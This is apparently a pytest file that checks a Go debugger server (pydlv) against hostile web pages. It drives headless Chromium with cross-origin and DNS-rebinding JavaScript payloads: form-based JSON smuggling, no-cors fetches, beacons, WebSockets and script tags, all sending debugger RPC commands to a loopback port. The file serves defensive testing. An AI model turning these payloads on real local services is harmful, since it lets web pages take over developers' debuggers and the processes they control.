"""Web pages against pydlv (issue items 3 and 5), with a real headless Chromium (Debian's `chromium`).

A page from another origin tries every way a page has to reach a loopback port (fetch in both
modes, the Delve body, https://, a form, a script tag, a WebSocket, a beacon); a page under a
DNS-rebinding name (its host resolves, through a relay, to pydlv's own port) tries the same-origin
requests. Each page posts what it could see to a results server. Then the session must still be
there (single-client mode: nothing took the slot or ended it), the target untouched, and no page
must have read any answer of the debugger.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import missing
from gotoolchains import GoToolchain
from rpcclient import ServerProcess

Build = Callable[[str, GoToolchain], Path]
Launch = Callable[..., ServerProcess]

# The page's attacks: each resolves to what the page could observe.
ATTACKS_JS = r"""
const T = TARGET, REPORT = REPORT_URL;
const rpc = JSON.stringify({jsonrpc: "2.0", method: "Command", params: {name: "continue"}, id: 1});
const bp = JSON.stringify({jsonrpc: "2.0", method: "CreateBreakpoint",
                           params: {Breakpoint: {functionName: "main.tick"}}, id: 2});
const delve = '{"method":"RPCServer.Command","params":[{"name":"continue"}],"id":3}';
async function seen(p) {
  try {
    const r = await p;
    let body = "";
    try { body = await r.text(); } catch (e) { body = "unreadable: " + e; }
    return {status: r.status, type: r.type, body: body.slice(0, 300)};
  } catch (e) { return {error: String(e)}; }
}
function tag(make) {
  return new Promise(res => { const el = make(); el.onload = () => res("load"); el.onerror = () => res("error");
                              setTimeout(() => res("timeout"), 5000); document.body.appendChild(el); });
}
const attacks = ATTACKS;
(async () => {
  const out = {};
  for (const [name, run] of Object.entries(attacks)) {
    try { out[name] = await Promise.race([run(), new Promise(r => setTimeout(() => r("timeout"), 8000))]); }
    catch (e) { out[name] = {thrown: String(e)}; }
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                       body: JSON.stringify({page: PAGE, results: out})});
})();
"""

CROSS_ORIGIN = """{
  simple_post: () => seen(fetch(T + "/", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: rpc})),
  json_post: () => seen(fetch(T + "/", {method: "POST", headers: {"Content-Type": "application/json"}, body: bp})),
  delve_body: () => seen(fetch(T + "/", {method: "POST", mode: "no-cors", body: delve})),
  localhost: () => seen(fetch(T.replace("127.0.0.1", "localhost") + "/", {method: "POST", mode: "no-cors", body: rpc})),
  read_methods: () => seen(fetch(T + "/methods")),
  opaque_methods: () => seen(fetch(T + "/methods", {mode: "no-cors"})),
  https: () => seen(fetch(T.replace("http:", "https:") + "/", {mode: "no-cors"})),
  https_again: () => seen(fetch(T.replace("http:", "https:") + "/methods", {mode: "no-cors"})),
  script: () => tag(() => { const s = document.createElement("script"); s.src = T + "/methods"; return s; }),
  style: () => tag(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = T + "/"; return l; }),
  beacon: async () => navigator.sendBeacon(T + "/", rpc),
  websocket: () => new Promise(res => { const ws = new WebSocket(T.replace("http:", "ws:") + "/");
                                       ws.onopen = () => res("open"); ws.onerror = () => res("error"); }),
  form: () => new Promise(res => {
    const f = document.createElement("form"); f.method = "POST"; f.action = T + "/"; f.enctype = "text/plain";
    f.target = "sink"; const i = document.createElement("input"); i.name = rpc.slice(0, -1) + ',"x":"'; i.value = '"}';
    f.appendChild(i); document.body.appendChild(f); f.submit(); setTimeout(() => res("submitted"), 1500); }),
}"""

SAME_ORIGIN = """{
  json_post: () => seen(fetch("/", {method: "POST", headers: {"Content-Type": "application/json"}, body: bp})),
  continue_post: () => seen(fetch("/", {method: "POST", headers: {"Content-Type": "application/json"}, body: rpc})),
  delve_body: () => seen(fetch("/", {method: "POST", headers: {"Content-Type": "application/json"}, body: delve})),
  methods: () => seen(fetch("/methods")),
}"""


def page(target: str, report: str, name: str, attacks: str) -> bytes:
    js = (ATTACKS_JS.replace("TARGET", json.dumps(target)).replace("REPORT_URL", json.dumps(report))
          .replace("PAGE", json.dumps(name)).replace("ATTACKS", attacks))
    return (f"<!doctype html><html><body><iframe name=sink></iframe><script>{js}</script></body></html>").encode()


class Results:
    def __init__(self) -> None:
        self.got: dict[str, Any] = {}
        self.cond = threading.Condition()

    def add(self, report: dict[str, Any]) -> None:
        with self.cond:
            self.got[report["page"]] = report["results"]
            self.cond.notify_all()

    def wait(self, name: str, timeout: float) -> dict[str, Any]:
        with self.cond:
            self.cond.wait_for(lambda: name in self.got, timeout)
            if name not in self.got:
                raise AssertionError(f"page {name!r} reported nothing within {timeout} s")
            result: dict[str, Any] = self.got[name]
            return result


@contextlib.contextmanager
def http_server(pages: dict[str, bytes], results: Results) -> Iterator[int]:
    """Serves the attacker's pages (GET /NAME) and takes their reports (POST /report)."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            body = pages.get(self.path.lstrip("/"))
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

        def do_POST(self) -> None:  # noqa: N802
            data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            results.add(json.loads(data))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        yield srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


@contextlib.contextmanager
def rebinding_relay(port: int, page_html: bytes) -> Iterator[None]:
    """127.0.0.2:PORT (pydlv's port number): the first GET / gets the attacker's page, every other
    connection is relayed to 127.0.0.1:PORT, as if the page's host name now resolved there."""
    loop = asyncio.new_event_loop()
    served = False

    async def pipe(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            while data := await r.read(65536):
                w.write(data)
                await w.drain()
        w.close()

    async def on_conn(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        nonlocal served
        head = await r.read(65536)
        if not served and head.startswith(b"GET / "):
            served = True
            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                    b"Content-Length: %d\r\n\r\n" % len(page_html) + page_html)
            await w.drain()
            w.close()
            return
        ur, uw = await asyncio.open_connection("127.0.0.1", port)
        uw.write(head)
        await asyncio.gather(pipe(r, uw), pipe(ur, w))

    server = loop.run_until_complete(asyncio.start_server(on_conn, "127.0.0.2", port))
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        yield
    finally:
        loop.call_soon_threadsafe(server.close)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(5)


def chromium(url: str, tmp: Path, rules: str) -> subprocess.Popen[bytes]:
    exe = shutil.which("chromium") or shutil.which("chromium-browser")
    if exe is None:
        missing("chromium (Debian package chromium)")
    assert exe is not None
    return subprocess.Popen(
        [exe, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
         "--disable-dev-shm-usage", f"--user-data-dir={tmp}", f"--host-resolver-rules={rules}", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def assert_nothing_read(results: dict[str, Any]) -> None:
    """No answer of the debugger reached the page: neither a result nor the method list."""
    text = json.dumps(results)
    for leak in ("RPCServer", "\\\"result\\\"", "Pid", "IsMulticlient", "ListGoroutines", "pydlv"):
        assert leak not in text, (leak, results)


def test_pages_cannot_reach_the_debugger(go: GoToolchain, build_go: Build, launch_server: Launch,
                                         tmp_path: Path) -> None:
    srv = launch_server(build_go("sleeper", go), multiclient=False)
    port = int(srv.addr.rpartition(":")[2])
    results = Results()
    pages: dict[str, bytes] = {}
    with http_server(pages, results) as web_port:
        report = f"http://127.0.0.1:{web_port}/report"
        pages["cross"] = page(f"http://127.0.0.1:{port}", report, "cross", CROSS_ORIGIN)
        rebind_page = page("", report, "rebind", SAME_ORIGIN)
        rules = "MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.2"
        with rebinding_relay(port, rebind_page):
            browsers = [chromium(f"http://attacker.test:{web_port}/cross", tmp_path / "c1", rules),
                        chromium(f"http://rebind.test:{port}/", tmp_path / "c2", rules)]
            try:
                cross = results.wait("cross", 60)
                rebind = results.wait("rebind", 60)
            finally:
                for b in browsers:
                    b.kill()
                    b.wait()
    print(json.dumps({"cross": cross, "rebind": rebind}, indent=1))  # shown when an assertion fails
    # Cross-origin: refused before anything ran; opaque answers at most.
    assert_nothing_read(cross)
    for name in ("json_post", "read_methods"):
        assert "error" in cross[name], (name, cross[name])  # a CORS failure: nothing readable
    assert cross["script"] == "error" and cross["style"] == "error", cross  # nosniff: same as a closed port
    assert cross["websocket"] == "error", cross
    # DNS rebinding: the page reads its own origin's answers, which are all Host refusals.
    assert_nothing_read(rebind)
    for name, seen in rebind.items():
        assert seen["status"] == 403 and "DNS rebinding" in seen["body"], (name, seen)
    # The session is still there (no fetch took the slot or ended it), the target untouched.
    time.sleep(0.5)
    assert srv.proc.poll() is None, srv.stderr()
    c = srv.client()
    state = c.call("State", {})["State"]
    assert state["Running"] is False and state["currentThread"]["function"]["name"] == "_rt0_amd64_linux", state
    assert [bp["id"] for bp in c.call("ListBreakpoints", {})["Breakpoints"] if bp["id"] > 0] == []
    assert "ready" not in srv.output()
    with pytest.raises(ConnectionRefusedError):  # the slot is taken now: the port stops accepting
        socket.create_connection(("127.0.0.1", port), timeout=5)
